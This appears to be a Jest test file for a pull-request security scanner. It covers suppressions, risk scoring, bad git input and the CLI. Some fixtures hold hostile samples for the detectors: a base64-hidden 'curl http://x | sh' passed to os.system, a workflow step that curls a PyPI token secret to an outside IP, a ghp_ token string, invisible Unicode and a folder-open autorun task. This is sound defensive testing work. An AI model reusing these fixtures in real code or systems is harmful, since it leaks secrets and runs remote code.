// The engine on real git repositories: bad input, suppressions (inline, the
// allowlist, the config's), the risk score, and the CLI command.
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from '@jest/globals';
import { type Report, parseConfig } from '@security-actions/core';
import { main } from '../../packages/cli/src/main';
import { type ScanOptions, scanPr } from '../../actions/pr-anomaly-scan/src/engine';
import { riskScore } from '../../actions/pr-anomaly-scan/src/score';
import { prMetaFromEvent } from '../../actions/pr-anomaly-scan/src/meta';
import { gitCheckout, treeFiles, unquotePath } from '../../actions/pr-anomaly-scan/src/git';
import { type GitIO, addedText } from '../../actions/pr-anomaly-scan/src/types';
import { expectFires, expectQuiet } from '../helpers/rules';
import { type BuiltRepo, type Files, buildRepo } from './corpus/build';
import { noise } from './corpus/cases';
import { reported } from './corpus/evaluate';

const options = (dir: string, extra: Partial<ScanOptions> = {}): ScanOptions => ({
  git: gitCheckout(dir),
  base: 'main',
  head: 'HEAD',
  meta: {},
  trustedOrgs: [],
  configPath: '.github/security-actions.yml',
  ...extra
});
/** The engine on a PR, reported as the runner would (its suppressions applied, the score of what stands). */
const scan = async (base: Files, head: Files, extra: Partial<ScanOptions> = {}) => {
  const r = buildRepo(base, head);
  const git = gitCheckout(r.dir);
  try {
    return reported(await scanPr(options(r.dir, { git, base: r.base, head: r.head, ...extra })));
  } finally {
    git.close();
    r.cleanup();
  }
};
const ids = (res: { findings: { ruleId: string; suppression?: unknown }[] }) =>
  res.findings.filter((f) => !f.suppression).map((f) => f.ruleId);

/** `sp-security pr-scan` in process on a built PR: the action's definition through the shared runner. */
async function cliScan(r: BuiltRepo, ...flags: string[]): Promise<{ code: number; out: string; report: Report }> {
  const json = join(mkdtempSync(join(tmpdir(), 'pr-scan-')), 'report.json');
  let out = '';
  const code = await main(['pr-scan', '--base', r.base, '--head', r.head, '--repo', r.dir, '--json', json, ...flags], {
    out: (s) => (out += s),
    err: () => undefined,
    env: { PATH: process.env.PATH },
    cwd: r.dir
  });
  return { code, out, report: JSON.parse(readFileSync(json, 'utf8')) as Report };
}

describe('injected git', () => {
  it('reads the PR only through the GitIO it is given (no checkout, no git process)', async () => {
    const [base, head] = ['b'.repeat(40), 'h'.repeat(40)];
    const file = { path: 'src/a.py', oldPath: undefined, oldMode: '100644', newMode: '100644' };
    const git: GitIO = {
      resolveCommit: async (ref) => (ref === 'main' ? base : head),
      diff: async (_from, _to, onFile) => {
        onFile(addedText(file.path, [{ line: 2, text: 'def is_ad\u200bmin(): pass' }]));
        return [
          {
            ...file,
            status: 'modified',
            oldSha: '1'.repeat(40),
            newSha: '2'.repeat(40),
            binary: false,
            addedCount: 1,
            deletedCount: 0
          }
        ];
      },
      listCommits: async () => [],
      readTexts: async () => new Map(),
      blobSizes: async () => new Map(),
      streamBlobs: async () => undefined,
      readFileAt: async () => undefined,
      listFiles: async () => []
    };
    const res = reported(await scanPr(options('/nonexistent', { git, base: 'main', head: 'pr' })));
    expect(res.errors).toEqual([]);
    expectFires(res.findings, 'unicode/invisible-character', 1);
    expect(res.findings.find((f) => f.ruleId === 'unicode/invisible-character')?.location).toEqual({
      file: 'src/a.py',
      line: 2
    });
    expect(res.target).toBe('main...pr');
  });
});

describe('workflow pins against the rest of the base', () => {
  const wf = (...uses: string[]) =>
    `on: push\npermissions: {}\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n${uses.map((u) => `      - uses: ${u}\n`).join('')}`;
  const pins = (res: { findings: { ruleId: string; severity: string; evidence?: string }[] }) =>
    res.findings
      .filter((f) => f.ruleId === 'workflow/unpinned-uses')
      .map((f) => `${f.evidence} ${f.severity}`)
      .sort();

  it("reads the base's other workflows from git: a pin the project already uses is low, a new action high", async () => {
    // The shape of scikit-image@055fd19c6786 (new reusable workflows, the project's tag pins) and
    // jupyterlab@1c8ff104a99e (a third-party action newly added by tag).
    const base = { '.github/workflows/tests.yaml': wf('actions/checkout@v5', 'actions/upload-artifact@v4') };
    const head = { '.github/workflows/_build.yaml': wf('actions/checkout@v5', 'toshimaru/auto-author-assign@v1.3.4') };
    expect(pins(await scan(base, head))).toEqual([
      'actions/checkout@v5 low',
      'toshimaru/auto-author-assign@v1.3.4 high'
    ]);
    // The same PR on a base whose workflows pin by SHA: the tag is new to the project.
    const pinned = { '.github/workflows/tests.yaml': wf(`actions/checkout@${'c'.repeat(40)} # v5.0.0`) };
    expect(pins(await scan(pinned, head))).toEqual([
      'actions/checkout@v5 high',
      'toshimaru/auto-author-assign@v1.3.4 high'
    ]);
  });

  it("the event's repository names its own organisation: its actions by tag are low", async () => {
    // jupyter_server@7ceebda61765 added jupyter-server/jupyter_releaser's check-release by tag.
    const head = {
      '.github/workflows/check-release.yml': wf('jupyter-server/jupyter_releaser/.github/actions/check-release@v1')
    };
    expect(pins(await scan({}, head, { meta: { repo: 'jupyter-server/jupyter_server' } }))).toEqual([
      'jupyter-server/jupyter_releaser/.github/actions/check-release@v1 low'
    ]);
    expect(pins(await scan({}, head, { meta: { repo: 'someone/else' } }))).toEqual([
      'jupyter-server/jupyter_releaser/.github/actions/check-release@v1 high'
    ]);
  });

  it("a source of the repository's own organisation is its own code: low (dask/distributed@968533b87553)", async () => {
    const travis =
      'install:\n  - pip install git+https://github.com/dask/hdfs3.git\n  - pip install git+https://github.com/joblib/joblib.git\n';
    const urls = async (repo?: string) =>
      (await scan({}, { '.travis.yml': travis }, { meta: { repo } })).findings
        .filter((f) => f.ruleId === 'deps/direct-url')
        .map((f) => `${f.location?.line} ${f.severity}`)
        .sort();
    expect(await urls('dask/distributed')).toEqual(['2 low', '3 medium']);
    expect(await urls()).toEqual(['2 medium', '3 medium']);
  });

  it("a local action's metadata is CI configuration (low), its scripts a local action's code (medium)", async () => {
    // notebook: 9 of 100 PRs edited .github/actions/build-dist/action.yml (version bumps), all benign.
    const action = (run: string) =>
      `name: build\nruns:\n  using: composite\n  steps:\n    - run: ${run}\n      shell: bash\n`;
    const base = { '.github/actions/build-dist/action.yml': action('echo 1'), '.github/actions/x/run.sh': 'echo 1\n' };
    const head = { '.github/actions/build-dist/action.yml': action('echo 2'), '.github/actions/x/run.sh': 'echo 2\n' };
    const gov = (await scan(base, head)).findings
      .filter((f) => f.ruleId === 'meta/governance-edit')
      .map((f) => `${f.location?.file} ${f.severity}`)
      .sort();
    expect(gov).toEqual(['.github/actions/build-dist/action.yml low', '.github/actions/x/run.sh medium']);
  });

  it('lists a tree object of either hash length', () => {
    const entry = (mode: string, name: string, id: Buffer) => Buffer.concat([Buffer.from(`${mode} ${name}\0`), id]);
    for (const bytes of [20, 32]) {
      const tree = Buffer.concat([
        entry('100644', 'ci.yml', Buffer.alloc(bytes, 0xab)),
        entry('40000', 'sub', Buffer.alloc(bytes, 1)),
        entry('100755', 'caf\u00e9.yaml', Buffer.alloc(bytes, 2)),
        entry('120000', 'link.yml', Buffer.alloc(bytes, 3))
      ]);
      expect(treeFiles(tree, bytes, '.github/workflows')).toEqual([
        { path: '.github/workflows/ci.yml', sha: 'ab'.repeat(bytes) },
        { path: '.github/workflows/caf\u00e9.yaml', sha: '02'.repeat(bytes) }
      ]);
    }
  });
});

describe('package indexes named through a variable', () => {
  const wf = (url: string, ...runs: string[]) =>
    `on: push\npermissions: {}\nenv:\n  WHEELS_INDEX_URL: ${url}\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n${runs.map((r) => `      - run: ${r}\n`).join('')}`;
  const indexes = (res: { findings: { ruleId: string; severity: string; message: string }[] }) =>
    res.findings.filter((f) => f.ruleId === 'deps/index-url');

  it("are judged by the head file's own definition, which the PR did not touch", async () => {
    const install = 'python -m pip install -i ${{ env.WHEELS_INDEX_URL }} llvmlite';
    // The variable is set in lines the PR leaves alone, to an index the base already has: not a new source.
    const mirror = 'https://pkgs.example.net/simple';
    const found = indexes(
      await scan(
        { '.github/workflows/w.yml': wf(mirror, 'echo hi') },
        { '.github/workflows/w.yml': wf(mirror, 'echo hi', install) }
      )
    );
    expect(found.map((f) => f.severity)).toEqual(['low']);
    expect(found[0].message).toContain(mirror);
    // Set to PyPI itself: nothing to report.
    const pypi = 'https://pypi.org/simple';
    const none = indexes(
      await scan(
        { '.github/workflows/w.yml': wf(pypi, 'echo hi') },
        { '.github/workflows/w.yml': wf(pypi, 'echo hi', install) }
      )
    );
    expectQuiet(none, 'deps/index-url');
    // Not set in the file: unknown, it stays medium.
    const bare = (...runs: string[]) => wf(mirror, ...runs).replace('WHEELS_INDEX_URL', 'OTHER');
    const unknown = indexes(
      await scan(
        { '.github/workflows/w.yml': bare('echo hi') },
        { '.github/workflows/w.yml': bare('echo hi', install) }
      )
    );
    expect(unknown.map((f) => f.severity)).toEqual(['medium']);
  });
});

describe('URL installs against the base', () => {
  it('a repository the script already installed from is no new source (low); another one is (medium)', async () => {
    const base = { 'ci/install.sh': 'pip install git+https://github.com/someone/fastio@main\n' };
    const moved = { 'ci/install.sh': 'python -m pip install --upgrade git+https://github.com/someone/fastio@dev\n' };
    const same = (await scan(base, moved)).findings.filter((f) => f.ruleId === 'deps/direct-url');
    expect(same.map((f) => f.severity)).toEqual(['low']);
    expect(same[0].message).toContain('already installs from this source');
    const other = { 'ci/install.sh': 'pip install git+https://github.com/stranger/fastio@main\n' };
    const found = (await scan(base, other)).findings;
    expectFires(found, 'deps/direct-url');
    expect(found.filter((f) => f.ruleId === 'deps/direct-url').map((f) => f.severity)).toEqual(['medium']);
  });
});

describe('bad input', () => {
  it('a directory that is not a git checkout: one line, diff checks not checked, metadata still checked', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'not-git-'));
    try {
      const res = await scanPr(options(dir, { meta: { headRef: 'a;b' } }));
      expect(res.errors).toHaveLength(1);
      expect(res.errors![0]).toMatch(/is not a git checkout/);
      expect(res.notChecked.map((n) => n.check)).toContain('binary');
      expectFires(res.findings, 'meta/branch-name-shell', 1);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("self-hosted runners are judged by the repository's visibility, which the event gives", async () => {
    const wf =
      'on: pull_request\npermissions: {}\njobs:\n  gpu:\n    runs-on: [self-hosted, gpu]\n    steps:\n      - run: pytest\n';
    const severity = async (event: Record<string, unknown>) =>
      (await scan({}, { '.github/workflows/gpu.yml': wf }, { meta: prMetaFromEvent(event) })).findings
        .filter((f) => f.ruleId === 'workflow/self-hosted-runner')
        .map((f) => f.severity);
    expect(await severity({ repository: { full_name: 'o/r', visibility: 'private' } })).toEqual(['medium']);
    expect(await severity({ repository: { full_name: 'o/r', private: false } })).toEqual(['high']);
    expect(await severity({})).toEqual(['high']); // unknown: judged as public
  });

  it("returns the head commit the findings' lines refer to, for links in the reports", async () => {
    const r = buildRepo({ 'a.txt': 'a\n' }, { 'a.txt': 'b\n' });
    try {
      const res = await scanPr(options(r.dir, { base: r.base, head: r.head }));
      expect(res.commit).toBe(execFileSync('git', ['rev-parse', r.head], { cwd: r.dir, encoding: 'utf8' }).trim());
      expect(res.commit).toMatch(/^[0-9a-f]{40}$/);
    } finally {
      r.cleanup();
    }
  });

  it('a shallow clone without the base says so', async () => {
    const r = buildRepo({ 'a.txt': 'a\n' }, { 'a.txt': 'b\n' });
    const clone = mkdtempSync(join(tmpdir(), 'shallow-'));
    try {
      execFileSync('git', ['clone', '-q', '--depth', '1', '--branch', 'pr', `file://${r.dir}`, clone]);
      const res = await scanPr(options(clone, { base: r.base }));
      expect(res.errors![0]).toMatch(/not in the checkout \(shallow clone: check out with fetch-depth: 0\)/);
    } finally {
      r.cleanup();
      rmSync(clone, { recursive: true, force: true });
    }
  });

  it('a head with no common ancestor with the base: one line naming both, metadata still checked', async () => {
    const r = buildRepo({ 'a.txt': 'a\n' }, { 'a.txt': 'b\n' });
    try {
      const git = (...args: string[]) => execFileSync('git', args, { cwd: r.dir, encoding: 'utf8' }).trim();
      git('checkout', '-q', '--orphan', 'unrelated');
      writeFileSync(join(r.dir, 'b.py'), 'def ad\u200bmin(): pass\n');
      git('add', '-A');
      git('-c', 'user.name=t', '-c', 'user.email=t@example.org', 'commit', '-qm', 'unrelated');
      const res = await scanPr(options(r.dir, { base: r.base, head: 'unrelated', meta: { headRef: 'a;b' } }));
      expect(res.errors).toEqual([
        `no common ancestor of base ${r.base.slice(0, 12)} and head ${git('rev-parse', 'unrelated').slice(0, 12)}`
      ]);
      expectQuiet(res.findings, 'unicode/invisible-character'); // nothing of the diff is claimed checked
      expectFires(res.findings, 'meta/branch-name-shell', 1);
    } finally {
      r.cleanup();
    }
  });

  it('rejects option-like refs instead of passing them to git', async () => {
    const res = await scan({}, { 'a.txt': 'x\n' }, { base: '--output=/tmp/x' });
    expect(res.errors![0]).toMatch(/is not a commit reference/);
  });

  it('non-UTF-8 text, malformed YAML and a malformed requirements file: one line each, the rest still scanned', async () => {
    const res = await scan(
      {},
      {
        'latin1.py': Buffer.from('# caf\xe9\nx = 1\n', 'latin1'),
        '.github/workflows/bad.yml': 'on: [push\njobs: {}\n',
        'requirements.txt': 'numpy\n--no-such-option\n',
        'src/evil.py': 'def ad\u200bmin(): pass\n'
      }
    );
    expect(res.errors).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^\.github\/workflows\/bad\.yml:\d+: invalid YAML/),
        expect.stringMatching(/^requirements\.txt:2: /)
      ])
    );
    expectFires(res.findings, 'unicode/invisible-character', 1);
    expectQuiet(res.findings, 'unicode/homoglyph');
  });

  it('paths with spaces, quotes and non-ASCII names are read', async () => {
    expect(unquotePath('"caf\\303\\251 \\"x\\".py"')).toBe('café "x".py');
    const res = await scan({}, { 'docs/café "x".py': 'exec(\u202e)\n' });
    expect(res.findings.find((f) => f.ruleId === 'unicode/bidi-control')?.location?.file).toBe('docs/café "x".py');
  });

  it('a large binary is streamed: size and entropy measured, not held in memory', async () => {
    const big = noise(40 * 1024 * 1024, 3);
    const res = await scan({}, { 'tests/data/blob.bin': big, 'tests/test_blob.py': 'def test(): pass\n' });
    const f = res.findings.find((x) => x.ruleId === 'binary/compressed-test-data')!;
    expect(f.properties?.size).toBe(big.length);
    expect(f.properties?.entropy).toBeGreaterThan(7.9);
    expect(f.properties?.contentSha256).toBe(createHash('sha256').update(big).digest('hex'));
  });

  it('renames, deletions and mode changes', async () => {
    const res = await scan(
      { 'tools/run.sh': 'echo hi\n', 'old.py': 'x = 1\n', 'gone.txt': 'bye\n' },
      { 'tools/run.sh': 'echo hi\n', 'new.py': 'x = 1\n', 'old.py': null, 'gone.txt': null }
    );
    expect(res.errors).toEqual([]);
    expect(res.stats?.['files changed']).toBe(2);
  });
});

describe('suppressions', () => {
  const payload = Buffer.from(Array.from({ length: 180 }, (_, i) => i)).toString('base64');
  const token = `${'ghp_'}${'wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx'}`;

  it('an inline ignore with a reason suppresses the finding on the next line and is itself reported', async () => {
    const res = await scan(
      {},
      {
        'src/m.py': `# pr-anomaly-scan: ignore[obfuscation/long-encoded-literal] test vector from RFC 4648\nV = "${payload}"\n`
      }
    );
    const f = res.findings.find((x) => x.ruleId === 'obfuscation/long-encoded-literal')!;
    expect(f.suppression).toEqual({ kind: 'inSource', reason: 'test vector from RFC 4648', source: 'src/m.py:1' });
    expectQuiet(res.findings, 'obfuscation/long-encoded-literal');
    expectFires(res.findings, 'meta/suppression-added', 1);
  });

  it('an inline ignore without a reason is not applied', async () => {
    const res = await scan(
      {},
      { 'src/m.py': `V = "${payload}"  # pr-anomaly-scan: ignore[obfuscation/long-encoded-literal]\n` }
    );
    expectFires(res.findings, 'obfuscation/long-encoded-literal', 1);
    expectQuiet(res.findings, 'meta/suppression-added');
    expect(res.notes!.join('\n')).toMatch(/without a reason is not applied/);
  });

  it('an inline ignore covers its own file only, whatever glob characters the names hold', async () => {
    const line = `V = "${payload}"  # pr-anomaly-scan: ignore[obfuscation/long-encoded-literal] RFC 4648 vector`;
    const res = await scan({}, { 'src/[a]/m{1,2}.py': `${line}\n`, 'src/a/m1.py': `V = "${payload}"\n` });
    const literal = res.findings.filter((f) => f.ruleId === 'obfuscation/long-encoded-literal');
    expect(literal.map((f) => [f.location?.file, Boolean(f.suppression)])).toEqual(
      expect.arrayContaining([
        ['src/[a]/m{1,2}.py', true],
        ['src/a/m1.py', false]
      ])
    );
    expect(literal).toHaveLength(2);
  });

  it('an inline ignore does not silence a committed credential (revoke it; the record of the ignore stays)', async () => {
    const res = await scan(
      {},
      { 'scripts/release.py': `# pr-anomaly-scan: ignore[secrets/credential] test token\nTOKEN = "${token}"\n` }
    );
    expectFires(res.findings, 'secrets/credential', 1);
    expectFires(res.findings, 'meta/suppression-added', 1);
  });

  it('reads notebooks for credentials: a token in a code cell or an output (printed environments, logs)', async () => {
    const nb = (cell: string, output: string) =>
      JSON.stringify(
        {
          cells: [
            {
              cell_type: 'code',
              source: [`import os\n`, cell],
              outputs: [{ output_type: 'stream', name: 'stdout', text: [output] }],
              metadata: {},
              execution_count: 1
            }
          ],
          metadata: {},
          nbformat: 4,
          nbformat_minor: 5
        },
        null,
        1
      ) + '\n';
    const res = await scan({}, { 'docs/demo.ipynb': nb(`client = Github("${token}")`, 'connected\n') });
    expectFires(res.findings, 'secrets/credential', 1);
    expect(res.findings.find((f) => f.ruleId === 'secrets/credential')?.location?.file).toBe('docs/demo.ipynb');
    const clean = await scan({}, { 'docs/demo.ipynb': nb('client = Github(os.environ["GH_TOKEN"])', 'connected\n') });
    expectQuiet(clean.findings, 'secrets/credential');
  });

  it('an ignore already in a workflow covers the workflow finding the PR adds below it', async () => {
    const wf = (step: string) =>
      `on: pull_request\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      # pr-anomaly-scan: ignore[workflow/unpinned-uses] vendored, reviewed in #12\n${step}`;
    const before = wf('      - run: echo hi\n');
    const res = await scan(
      { '.github/workflows/ci.yml': before },
      { '.github/workflows/ci.yml': wf('      - uses: foo/bar@v1\n') }
    );
    expectQuiet(res.findings, 'workflow/unpinned-uses');
    expectQuiet(res.findings, 'meta/suppression-added');
    const bare = await scan(
      { '.github/workflows/ci.yml': before },
      { '.github/workflows/ci.yml': wf('      - run: echo hi\n      - uses: foo/bar@v1\n') }
    );
    expectFires(bare.findings, 'workflow/unpinned-uses', 1);
  });

  it('an ignore above a step covers the workflow findings anywhere inside it, its run script included', async () => {
    const wf = (comment: string) =>
      `on: pull_request_target\npermissions: {}\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n${comment}      - name: greet\n        run: |\n          echo start\n          echo "\${{ github.event.pull_request.title }}"\n      - run: echo "\${{ github.head_ref }}"\n`;
    const ignore = '      # pr-anomaly-scan: ignore[workflow/template-injection] the title is printed, never run\n';
    const res = await scan({}, { '.github/workflows/greet.yml': wf(ignore) });
    const injections = res.findings.filter((f) => f.ruleId === 'workflow/template-injection');
    // The title sits three lines below the comment, inside the step's script; the next step is not covered.
    expect(injections.map((f) => [f.location?.line, Boolean(f.suppression)])).toEqual([
      [11, true],
      [12, false]
    ]);
    expectFires(res.findings, 'workflow/template-injection', 1);
  });

  it('an inline ignore naming a retired workflow rule id still applies, with a note naming the new id', async () => {
    const wf = `on: pull_request\npermissions: {}\njobs:\n  gpu:\n    # pr-anomaly-scan: ignore[workflow/self-hosted-pr] ephemeral runner, approval required\n    runs-on: [self-hosted, gpu]\n    steps:\n      - run: pytest\n`;
    const res = await scan({}, { '.github/workflows/gpu.yml': wf });
    const f = res.findings.find((x) => x.ruleId === 'workflow/self-hosted-runner')!;
    expect(f.suppression?.reason).toBe('ephemeral runner, approval required');
    expectQuiet(res.findings, 'workflow/self-hosted-runner');
    expect(res.notes!.join('\n')).toContain(
      'the rule workflow/self-hosted-pr is now workflow/self-hosted-runner; the entry was applied'
    );
  });

  it("the base config's content-hash allowlist suppresses a known fixture, the score counts what stands, and it stops when it expires", async () => {
    const blob = Buffer.concat([Buffer.from('\xfd7zXZ\x00', 'latin1'), noise(2000, 4)]);
    const sha256 = createHash('sha256').update(blob).digest('hex');
    const config = (extra: string) =>
      `pr-anomaly-scan:\n  allow:\n    - sha256: ${sha256}\n      rule: binary/compressed-test-data\n      reason: generated by make_fixtures.py\n${extra}`;
    const head = { 'tests/files/good.xz': blob, 'tests/test_x.py': 'def test(): pass\n' };
    for (const [extra, allowed] of [
      ['', true],
      ['      expires: 2025-01-01\n', false]
    ] as const) {
      const r = buildRepo({ '.github/security-actions.yml': config(extra) }, head);
      try {
        const { report } = await cliScan(r);
        if (allowed) {
          expectQuiet(report.findings, 'binary/compressed-test-data');
          const f = report.findings.find((x) => x.ruleId === 'binary/compressed-test-data')!;
          expect(f.suppression?.reason).toBe('generated by make_fixtures.py');
          expect(report.stats['risk score']).toBe('0/10');
        } else {
          expectFires(report.findings, 'binary/compressed-test-data', 1);
          expect(report.notes.join('\n')).toMatch(/pr-anomaly-scan\.allow\.0 .* expired on 2025-01-01/);
          expect(report.stats['risk score']).not.toBe('0/10');
        }
      } finally {
        r.cleanup();
      }
    }
  });

  it('the config section is checked by its schema: errors name the file and line', () => {
    const cfg = (item: string) => `version: 1\npr-anomaly-scan:\n  allow:\n    - ${item}\n`;
    expect(() => parseConfig(cfg(`sha256: abc\n      reason: x`), 'cfg.yml')).toThrow(
      /^cfg\.yml:4: pr-anomaly-scan\.allow\.0\.sha256 must match pattern/
    );
    expect(() => parseConfig(cfg(`sha256: ${'a'.repeat(64)}`), 'cfg.yml')).toThrow(
      "cfg.yml:4: pr-anomaly-scan.allow.0: 'reason' is required"
    );
    expect(() =>
      parseConfig(cfg(`sha256: ${'a'.repeat(64)}\n      reason: ok\n      expires: 2026-13-01`), 'cfg.yml')
    ).toThrow(/^cfg\.yml:6: pr-anomaly-scan\.allow\.0\.expires must match pattern/);
    expect(() => parseConfig('pr-anomaly-scan:\n  ignore: []\n', 'cfg.yml')).toThrow(
      "cfg.yml:2: pr-anomaly-scan: unknown key 'ignore'"
    );
  });
});

describe('risk score', () => {
  it('one long literal in a notebook is weak; a payload that reaches a shell is strong', async () => {
    const png = Buffer.from('x'.repeat(400)).toString('base64');
    const weak = await scan(
      {},
      { 'nb.ipynb': JSON.stringify({ cells: [{ outputs: [{ data: { 'text/plain': png } }] }] }, null, 1) }
    );
    expect(ids(weak)).toEqual(['obfuscation/long-encoded-literal']);
    expect(weak.score.score).toBeLessThan(1);
    const strong = await scan(
      {},
      {
        'src/pkg/_x.py': `import base64, os\nos.system(base64.b64decode("${Buffer.from('curl http://x | sh; '.repeat(12)).toString('base64')}"))\n`
      }
    );
    expect(strong.score.score).toBeGreaterThanOrEqual(5);
    expect(strong.score.chains).toContain('obfuscated data reaches code execution');
  });

  it('workflow findings of the core audit keep their families: secrets sent out chain, job-level grants add little', async () => {
    const send = await scan(
      {},
      {
        '.github/workflows/x.yml':
          'on: push\npermissions: {}\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d "${{ secrets.PYPI_TOKEN }}" https://203.0.113.9/c\n'
      }
    );
    expectFires(send.findings, 'workflow/secrets-to-outside-host', 1);
    expect(send.score.chains).toContain('workflow sends secrets out');
    const grants = await scan(
      {},
      {
        '.github/workflows/x.yml':
          'on: pull_request\npermissions: {}\njobs:\n  x:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: write\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n        with:\n          persist-credentials: false\n'
      }
    );
    expect(grants.findings.filter((f) => f.ruleId === 'workflow/write-permissions').map((f) => f.severity)).toEqual([
      'info'
    ]);
    expect(grants.score.score).toBeLessThan(send.score.score);
    expect(grants.score.score).toBeLessThan(2);
  });

  it('caps many weak findings', () => {
    const weak = Array.from(
      { length: 50 },
      () => ({ ruleId: 'deps/new-dependency', severity: 'info', confidence: 'high' }) as never
    );
    expect(riskScore(weak).score).toBeLessThan(2);
  });
});

describe('sp-security pr-scan', () => {
  it('scans two commits of a checkout and reports the API checks as not checked', async () => {
    const r = buildRepo({}, { '.vscode/tasks.json': '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}\n' });
    try {
      let out = '';
      let err = '';
      const code = await main(['pr-scan', '--base', r.base, '--head', r.head, '--repo', r.dir], {
        out: (s) => (out += s),
        err: (s) => (err += `${s}\n`),
        env: { PATH: process.env.PATH },
        cwd: r.dir
      });
      expect(out).toMatch(/HIGH\s+meta\/ide-autorun\s+\.vscode\/tasks\.json:1/);
      expect(out).toMatch(/NOT CHECKED author-trust: no token given/);
      expect(code).toBe(1);
      expect(out).toMatch(/FAIL: 1 high at or above --fail-on high/);
    } finally {
      r.cleanup();
    }
  });
});
